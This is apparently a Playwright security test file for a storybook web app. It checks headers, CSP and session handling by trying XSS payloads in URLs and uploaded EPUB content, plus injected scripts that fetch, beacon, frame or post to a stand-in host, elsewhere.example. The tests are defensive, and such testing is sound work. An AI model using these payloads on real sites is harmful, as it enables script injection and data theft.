import type { BrowserContext, Page } from '@playwright/test'
import { pages } from '#content/pages.ts'
import { undatedStorybooks } from '#content/storybooks.ts'
import { makeEpub } from '../../test/books.ts'
import { beginStorybook, upload } from '../../test/uploading.ts'
import type { Tally } from '../tally.ts'
import { signInCall, type Target } from '../target.ts'
import type { Answer } from '../wire.ts'

const others = [
  '/no-such-page',
  '/storybooks/no-such-book',
  '/storytellers-lantern/dreams/no-such-book',
  '/api/nowhere',
  '/api/docs',
  '/mailbox',
  '/healthz',
  '/robots.txt',
  '/api/tiers',
  '/auth/v1/settings',
  '/favicon.svg',
]

/** URLs that would make a page act. */
const hostileUrls = [
  '/login?next=//elsewhere.example&redirect_to=javascript:alert(1)',
  '/portal-hub?payment=success&session_id=<script>document.title=1</script>',
  '/memberships?payment=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E',
  '/dashboard#access_token=made&refresh_token=up&type=recovery',
]

/** Security headers of every answer, and attempts in a browser to violate them. */
export async function policies(target: Target, tally: Tally): Promise<void> {
  const addresses = [
    ...pages.map(({ path }) => (path === '/404' ? '/nobody-lives-here' : path)),
    ...undatedStorybooks.map(({ id }) => `/storybooks/${id}`),
  ]
  for (const path of [...addresses, ...others])
    for (const [name, wrong] of headerFaults(await target.call({ path }))) tally.note(`${name} of ${path}`, wrong)
  const chosen = [
    ...target.chance.some(addresses, 2),
    '/storytellers-lantern/dreams',
    await hangTricks(target),
    ...target.chance.some(hostileUrls, 1),
  ]
  const browser = await target.browser()
  const context = await browser.newContext()
  const session = await target.call(signInCall(target.mara))
  await context.addInitScript(
    `if (location.pathname !== '/login') localStorage.setItem('constellation-club.session', ${JSON.stringify(session.body)})`,
  )
  for (const path of chosen) {
    const page = await context.newPage()
    for (const [name, wrong] of await visit(page, target.site.url, path))
      tally.note(`${name} at ${path.slice(0, 60)}`, wrong)
    await page.close()
  }
  await tryOthersLinks(target, tally, context)
  await tryAddresses(target, tally, context)
  await context.close()
}

/** An email link of another account must not replace the session of a signed-in person. */
async function tryOthersLinks(
  { site, call, mara, vesper }: Target,
  tally: Tally,
  context: BrowserContext,
): Promise<void> {
  const { body } = await call(signInCall(vesper))
  const { access_token, refresh_token } = JSON.parse(body) as { access_token: string; refresh_token: string }
  const tokens = `access_token=${access_token}&refresh_token=${refresh_token}&expires_in=3600&token_type=bearer`
  for (const [path, type] of [
    ['/dashboard', 'magiclink'],
    ['/new-password', 'recovery'],
    ['/memberships', 'signup'],
  ] as const) {
    const page = await context.newPage()
    await page.goto(`${site.url}${path}#${tokens}&type=${type}`)
    const whose = await page.evaluate(whoseSession(mara.email))
    tally.note(`a link of another account at ${path}`, whose === mara.email ? null : `signs in ${String(whose)}`)
    await page.close()
  }
}

/** Waits in the page until it asks or the session changes. @returns whose session is stored */
const whoseSession = (email: string): string => `new Promise((done, fail) => {
  const end = Date.now() + 20_000
  const look = () => {
    const whose = JSON.parse(localStorage.getItem('constellation-club.session') ?? '{}').user?.email
    if (whose !== '${email}' || document.querySelector('dialog[open]')) done(whose)
    else if (Date.now() > end) fail(new Error('the link was not read'))
    else setTimeout(look, 20)
  }
  look()
})`

/** If a link's page loads no scripts, its tokens must still not stay in the URL, the history or a Referer. */
async function tryAddresses({ site }: Target, tally: Tally, context: BrowserContext): Promise<void> {
  for (const path of ['/dashboard', '/new-password', '//new-password']) {
    const page = await context.newPage()
    await page.route('**/assets/**', (route) => route.abort())
    await page.goto(`${site.url}${path}#access_token=made&refresh_token=up&type=recovery`, {
      waitUntil: 'domcontentloaded',
    })
    const address = String(await page.evaluate('location.href'))
    tally.note(`tokens in the address of ${path}`, address.includes('access_token') ? 'stay there' : null)
    await page.close()
  }
}

type HeaderFault = [name: string, wrong: string | null]

function headerFaults({ headers, status, body }: Answer): HeaderFault[] {
  const is = (name: string, form: RegExp): HeaderFault => {
    const value = String(headers[name] ?? 'nothing')
    return [name, form.test(value) ? null : `says ${value.slice(0, 100)}`]
  }
  const isNamed = headers['x-powered-by'] !== undefined || headers.server !== undefined
  const every: HeaderFault[] = [
    is('x-content-type-options', /^nosniff$/),
    is('referrer-policy', /^(strict-origin-when-cross-origin|same-origin|no-referrer|strict-origin)$/),
    is('x-frame-options', /^(DENY|SAMEORIGIN)$/),
    is('cross-origin-opener-policy', /^same-origin$/),
    is('cross-origin-resource-policy', /^same-origin$/),
    is('permissions-policy', /camera=\(\).*geolocation=\(\)/),
    ['what the server is called', isNamed ? 'is disclosed' : null],
    ['cookies', headers['set-cookie'] === undefined ? null : 'are set'],
  ]
  if (!String(headers['content-type']).includes('html')) return every
  const policy = new Map(
    String(headers['content-security-policy'] ?? '')
      .split(';')
      .map((part) => part.trim().split(/\s+/))
      .map(([name = '', ...sources]) => [name, sources] as const),
  )
  const only = (name: string, allowed: RegExp): HeaderFault => {
    const sources = policy.get(name) ?? policy.get('default-src')
    const strange = sources?.filter((source) => !allowed.test(source))
    return [name, strange?.length === 0 ? null : `says ${strange?.join(' ') ?? 'nothing'}`]
  }
  const ours = /^'(self|none|sha256-[\w+/=]+)'$/
  const hasHandler = /\son\w+="/.test(body.replaceAll(/<script[\s\S]*?<\/script>/g, ''))
  // The API viewer sets style attributes.
  const isViewer = body.includes('swagger-ui')
  return [
    ...every,
    only('default-src', /^'(none|self)'$/),
    only('script-src', ours),
    only('style-src', isViewer ? /^'(self|none|unsafe-inline|sha256-[\w+/=]+)'$/ : ours),
    only('img-src', /^('self'|'none'|data:)$/),
    only('font-src', /^('self'|'none'|data:)$/),
    only('connect-src', /^'(self|none)'$/),
    only('frame-src', /^'(self|none)'$/),
    only('object-src', /^'none'$/),
    ['base-uri', policy.get('base-uri')?.join() === "'none'" ? null : 'is open'],
    ['form-action', /^'(self|none)'$/.test(policy.get('form-action')?.join() ?? '') ? null : 'is open'],
    ['frame-ancestors', policy.get('frame-ancestors')?.join() === "'none'" ? null : 'is open'],
    ['handlers in the page', hasHandler && status < 400 && !isViewer ? 'are there' : null],
  ]
}

const quietPage = 'A quiet page.'

/** Storybooks with scripts in titles and pages. @returns the path of one */
async function hangTricks({ site, mara }: Target): Promise<string> {
  const author = { url: site.url, token: mara.token }
  const trick = `"><img src=x onerror="window.wasIn=1"><script>window.wasIn=1</script>`
  const id = await beginStorybook(author, trick)
  const chapter = `<p>${quietPage}</p><script>parent.wasIn = 1; top.wasIn = 1; fetch('http://elsewhere.example/')</script><img src="http://elsewhere.example/pixel.gif" onerror="parent.wasIn=1" alt=""/><iframe src="http://elsewhere.example/"></iframe>`
  await upload(author, id, makeEpub({ title: trick.replaceAll(/[<>"&]/g, ''), chapters: [chapter] }), {
    name: 'tricks.epub',
  })
  return `/storytellers-lantern/dreams/${id}`
}

/** What an injected script would try. */
const deeds: Readonly<Record<string, string>> = {
  'a script written into the page': `const s = document.createElement('script'); s.text = 'window.wasIn = 1'; document.body.append(s)`,
  'a script of another site': `await new Promise((done) => { const s = document.createElement('script'); s.src = 'http://elsewhere.example/x.js'; s.onerror = done; s.onload = () => { window.wasIn = 1; done() }; document.body.append(s) })`,
  'a script in an attribute': `document.body.insertAdjacentHTML('beforeend', '<b id="deed" onclick="window.wasIn=1">x</b>'); document.getElementById('deed').click()`,
  'a script in an address': `const a = document.createElement('a'); a.href = 'javascript:window.wasIn=1'; document.body.append(a); a.click(); await new Promise((done) => setTimeout(done, 50))`,
  'words that become code': `try { setTimeout('window.wasIn = 1', 0) } catch {} await new Promise((done) => setTimeout(done, 50))`,
  'a letter home': `try { await fetch('http://elsewhere.example/'); window.wasIn = 1 } catch {}`,
  'a beacon': `if (await new Promise((done) => { const i = new Image(); i.onload = () => done(true); i.onerror = () => done(false); i.src = 'http://elsewhere.example/pixel.gif' })) window.wasIn = 1`,
  'another base': `const b = document.createElement('base'); b.href = 'http://elsewhere.example/'; document.head.append(b); if (new URL(document.baseURI).host !== location.host) window.wasIn = 1; b.remove()`,
  'a frame around another site': `await new Promise((done) => { const f = document.createElement('iframe'); f.src = 'http://elsewhere.example/'; f.onload = done; f.onerror = done; document.body.append(f); setTimeout(done, 300) })`,
  'a form to another site': `const f = document.createElement('form'); f.action = 'http://elsewhere.example/'; f.method = 'post'; document.body.append(f); f.submit(); await new Promise((done) => setTimeout(done, 100))`,
}

/** Opens a page as a member and tries what the policy forbids. */
async function visit(page: Page, site: string, path: string): Promise<[string, string | null][]> {
  const violations: string[] = []
  const abroad: string[] = []
  await page.exposeFunction('reportViolation', (violation: string) => void violations.push(violation))
  await page.addInitScript(
    `addEventListener('securitypolicyviolation', (e) => window.reportViolation?.(e.violatedDirective + ' ' + e.blockedURI))`,
  )
  page.on('dialog', (dialog) => {
    violations.push(`a dialog said ${dialog.message()}`)
    void dialog.dismiss()
  })
  // External requests are recorded, not sent.
  await page.route('**/*', async (route) => {
    const url = route.request().url()
    const isOurs = url.startsWith(`${site}/`) || /^(data|blob|about):/.test(url)
    if (isOurs) return route.continue()
    abroad.push(url)
    return route.fulfill({ status: 200, contentType: 'text/javascript', body: 'window.wasIn = 1' })
  })
  await page.goto(site + path)
  await page.mouse.move(5, 5)
  const isBook = /\/dreams\/[0-9a-f-]{36}/.test(path)
  // Seen from within the frame, after what its document asked for.
  if (isBook) await page.frameLocator('.book-frame').getByText(quietPage).waitFor()
  await page.waitForLoadState('networkidle')
  const results: [string, string | null][] = [
    ['requests to other sites', abroad.length === 0 ? null : abroad.join(' ').slice(0, 120)],
    // The frame's policy blocks requests of the hostile book, which the console reports.
    [
      'what the page itself wants and may not',
      isBook || violations.length === 0 ? null : violations.join(', ').slice(0, 160),
    ],
    ['scripts that came with words', (await page.evaluate('window.wasIn')) === undefined ? null : 'have run'],
    ['where one has come to', page.url().startsWith(`${site}/`) ? null : page.url()],
  ]
  for (const [name, deed] of Object.entries(deeds)) {
    abroad.length = 0
    await page.evaluate('delete window.wasIn')
    await page.evaluate(`(async () => { ${deed} })()`).catch(() => undefined)
    const wasIn = await page.evaluate('window.wasIn').catch(() => 'left')
    const left = !page.url().startsWith(`${site}/`)
    results.push([
      name,
      wasIn !== undefined || abroad.length > 0 || left ? `goes through ${abroad.join(' ').slice(0, 80)}` : null,
    ])
  }
  return results
}
